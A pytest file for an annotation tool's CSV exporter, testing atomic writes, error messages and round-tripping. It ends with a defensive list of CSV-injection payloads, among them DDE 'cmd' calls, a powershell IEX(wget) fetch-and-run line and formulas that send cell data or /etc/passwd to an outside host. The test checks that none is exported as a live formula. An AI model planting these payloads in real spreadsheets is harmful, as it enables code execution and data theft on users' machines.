"""An export is whole or not there, and says in words why not."""

import csv
import errno
import os
import resource
import subprocess
import sys
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotations.errors import Problem
from annotations.export import csv_file
from annotations.export.csv_file import write_csv
from annotations.export.rows import COLUMNS, NUMBERS
from annotations.export.safe import safe

REFERENCE = Path(__file__).with_name("reference.csv")
ROW = dict.fromkeys(COLUMNS, "")
CELLS = st.text(st.characters(exclude_categories=["Cs"], include_characters='",;\r\n\t=+-@\0\ufeff\u2028😀'))
ROWS = st.lists(st.tuples(*[CELLS] * len(COLUMNS)), max_size=4)


def row(**cells: str) -> tuple[str, ...]:
    return tuple({**ROW, **cells}.values())


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


@pytest.fixture
def target(tmp_path: Path) -> Path:
    path = tmp_path / "klaim.csv"
    path.write_text("lama")
    return path


def untouched(target: Path) -> bool:
    return target.read_text() == "lama" and os.listdir(target.parent) == [target.name]


EXAMPLES = [
    row(
        claim_id="1", article_id="1", article_title='Judul, dengan "kutip"', outlet="Warta Bumi", language="id",
        start="-1", end="12", spans="-1-12", quote="baris satu\nbaris dua", prefix="; ", suffix="\n\r",
        quotation="direct", source="KCNA", mention="KCNA", cue="kata", via="Reuters", chain="KCNA > Reuters",
        chain_depth="2", reliability="B", credibility="2", admiralty="B2", tags="a; b", note='=HYPERLINK("x")',
        origin="suggestion", pipeline="sorotan_id", score="0.8765", analyst="ana",
    ),
    row(claim_id="2", article_id="1", quote="😀 العربية e\u0301\u2028Зеленський", note="-5", prefix="\tx", suffix="＝"),
    row(claim_id="3", article_id="2", quote="@kata", source="+62", tags="  =1+1", analyst="'ana"),
]  # fmt: skip


def test_an_export_is_the_reference_byte_by_byte(target):
    assert write_csv(target, EXAMPLES) == 3
    assert target.read_bytes() == REFERENCE.read_bytes()
    assert target.read_bytes().startswith(b"\xef\xbb\xbfclaim_id,article_id,")
    assert os.listdir(target.parent) == [target.name]


def test_the_numbers_of_the_reference_stay_numbers_and_its_formulas_are_words():
    header, first, second, third = read(REFERENCE)
    assert tuple(header) == COLUMNS
    cells = dict(zip(header, first, strict=True))
    assert (cells["start"], cells["spans"], cells["note"]) == ("-1", "-1-12", '\'=HYPERLINK("x")')
    assert (cells["quote"], cells["suffix"]) == ("baris satu\nbaris dua", "\n\r")
    assert [c[:2] for c in (*second, *third) if c.startswith("'")] == ["'\t", "'＝", "'-", "'@", "'+", "' ", "'a"]


def test_an_export_without_claims_has_its_header(target):
    assert write_csv(target, []) == 0
    assert read(target) == [list(COLUMNS)]


@settings(deadline=None)
@given(rows=ROWS, verbatim=st.booleans())
def test_every_cell_comes_back(tmp_path_factory, rows, verbatim):
    path = tmp_path_factory.getbasetemp() / "bolak-balik.csv"
    assert write_csv(path, rows, verbatim=verbatim) == len(rows)
    expected = [
        [cell if verbatim or c in NUMBERS else safe(cell) for c, cell in zip(COLUMNS, r, strict=True)] for r in rows
    ]
    assert read(path) == [list(COLUMNS), *expected]


def test_memory_stays_flat(target):
    def rows():
        for number in range(20_000):
            yield row(claim_id=str(number), quote="kata " * 50)

    tracemalloc.start()
    try:
        assert write_csv(target, rows()) == 20_000
        assert tracemalloc.get_traced_memory()[1] < 2**20
    finally:
        tracemalloc.stop()
    assert target.stat().st_size > 5 * 2**20


class Full(Exception):
    pass


def full_disk(*_args: object) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_a_full_disk_leaves_the_old_file(target, monkeypatch):
    monkeypatch.setattr(csv_file.os, "fsync", full_disk)
    with pytest.raises(Problem, match=r"klaim\.csv.*No space left on device.*Free some space"):
        write_csv(target, EXAMPLES)
    assert untouched(target)


def test_a_disk_that_fills_up_between_rows_leaves_the_old_file(target, monkeypatch):
    class Writer:
        rows = 0

        def writerow(self, _cells):
            self.rows += 1
            if self.rows == 3:
                full_disk()

    monkeypatch.setattr(csv_file.csv, "writer", lambda *_a, **_k: Writer())
    with pytest.raises(Problem, match="No space left"):
        write_csv(target, EXAMPLES)
    assert untouched(target)


def test_a_write_that_the_system_refuses_leaves_the_old_file(target):
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, hard))
    try:
        with pytest.raises(Problem, match=r"klaim\.csv.*File too large"):
            write_csv(target, [row(quote="kata " * 1000)] * 20)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert untouched(target)


def test_a_file_that_reads_back_otherwise_is_refused(target, monkeypatch):
    monkeypatch.setattr(csv_file.os, "fsync", lambda handle: os.pwrite(handle, b"X", 10))
    with pytest.raises(Problem, match="did not read back"):
        write_csv(target, EXAMPLES)
    assert untouched(target)


def test_a_file_that_is_no_utf8_any_more_is_refused(target, monkeypatch):
    monkeypatch.setattr(csv_file.os, "fsync", lambda handle: os.pwrite(handle, b"\xff", 10))
    with pytest.raises(Problem, match="did not read back"):
        write_csv(target, EXAMPLES)
    assert untouched(target)


def test_renaming_that_fails_leaves_the_old_file(target, monkeypatch):
    def refuse(_self, _target):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(Problem, match=r"Permission denied.*Close the file"):
        write_csv(target, EXAMPLES)
    assert untouched(target)


@pytest.mark.parametrize("error", [Full("berhenti"), OSError(errno.EIO, "elsewhere"), KeyboardInterrupt()])
def test_what_the_rows_raise_is_passed_on(target, error):
    def rows():
        yield row()
        raise error

    with pytest.raises(type(error)) as caught:
        write_csv(target, rows())
    assert caught.value is error
    assert untouched(target)


def test_a_folder_that_is_missing_is_named(tmp_path):
    with pytest.raises(Problem, match=r"tiada/klaim\.csv.*No such file or directory.*Make the folder"):
        write_csv(tmp_path / "tiada" / "klaim.csv", EXAMPLES)
    assert os.listdir(tmp_path) == []


def test_a_folder_is_no_file(tmp_path):
    (tmp_path / "klaim.csv").mkdir()
    with pytest.raises(Problem, match="it is a folder"):
        write_csv(tmp_path / "klaim.csv", EXAMPLES)
    assert os.listdir(tmp_path) == ["klaim.csv"]


def test_a_device_is_never_replaced(tmp_path):
    os.mkfifo(tmp_path / "klaim.csv")
    with pytest.raises(Problem, match="not an ordinary file"):
        write_csv(tmp_path / "klaim.csv", EXAMPLES)
    assert (tmp_path / "klaim.csv").is_fifo()


def test_a_read_only_file_is_left_alone(target, monkeypatch):
    monkeypatch.setattr(csv_file.os, "access", lambda path, mode: not (path == target and mode == os.W_OK))
    with pytest.raises(Problem, match="it is read-only"):
        write_csv(target, EXAMPLES)
    assert untouched(target)


def test_a_folder_that_may_not_be_written_is_named(target, monkeypatch):
    real = Path.open

    def refuse(self, mode="r", *args, **kwargs):
        if "x" in mode:
            raise PermissionError(errno.EACCES, "Permission denied")
        return real(self, mode, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    with pytest.raises(Problem, match=r"klaim\.csv.*Permission denied"):
        write_csv(target, EXAMPLES)
    monkeypatch.undo()
    assert untouched(target)


def test_a_link_leads_to_its_file(target, tmp_path):
    (tmp_path / "tautan.csv").symlink_to(target)
    write_csv(tmp_path / "tautan.csv", EXAMPLES)
    assert (tmp_path / "tautan.csv").is_symlink()
    assert target.read_bytes() == REFERENCE.read_bytes()


def test_a_long_name_needs_no_longer_one(tmp_path):
    path = tmp_path / ("k" * 251 + ".csv")
    assert write_csv(path, EXAMPLES) == 3


def test_a_session_writes_its_claims(session, claim, tmp_path):
    session.set_note([claim], "=1+1")
    assert session.export_csv(tmp_path / "a.csv") == 1
    header, cells = read(tmp_path / "a.csv")
    made = dict(zip(header, cells, strict=True))
    assert (made["quote"], made["note"], made["analyst"]) == ("300 warga telah diungsikan", "'=1+1", "ana")
    session.export_csv(tmp_path / "b.csv", [claim], verbatim=True)
    assert dict(zip(*read(tmp_path / "b.csv"), strict=True))["note"] == "=1+1"


# https://owasp.org/www-community/attacks/CSV_Injection, and the payloads that circulate with it.
OWASP = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)",
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget example.org/x)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://example.org?x=",A1),"//a")', '=IMPORTRANGE("http://example.org","A1")',
    '=WEBSERVICE("http://example.org/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc'!A",
    '"=1+1"', '=1+1";=1+1', ";=1+1", ",=1+1", "'=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
    "='file:///etc/passwd'#$passwd.A1", "=INFO(\"osversion\")", "%0A=1+1", "=1+1\n=2+2",
)  # fmt: skip


def test_no_cell_of_owasps_list_begins_a_formula(tmp_path):
    path = tmp_path / "rumus.csv"
    write_csv(path, [[cell] * len(COLUMNS) for cell in OWASP])
    with path.open(encoding="utf-8-sig", newline="") as file:
        found = list(csv.reader(file))[1:]
    at = [n for n, name in enumerate(COLUMNS) if name not in NUMBERS]
    assert [row[at[0]].removeprefix("'") for row in found] == [cell.removeprefix("'") for cell in OWASP]
    for row in found:
        for cell in (row[n] for n in at):
            assert cell.lstrip(" \u00a0\ufeff\u200b\n")[:1] not in set("=+-@＝＋－＠\t\r"), cell


def test_the_draft_of_a_program_that_was_ended_is_taken_away_by_the_next_export(target):
    ended = subprocess.Popen([sys.executable, "-c", ""])
    ended.wait()
    left = [f"{csv_file._OURS}{ended.pid}-0badcafe.part", f"{csv_file._OURS}{os.getpid()}-0badcafe.part"]
    others = [".sorotan-00000000-1-0badcafe.part", f"{csv_file._OURS}x-1.part", ".other.part"]
    for name in (*left, *others):
        (target.parent / name).write_text("x")
    write_csv(target, EXAMPLES)
    assert sorted(os.listdir(target.parent)) == sorted([target.name, left[1], *others])
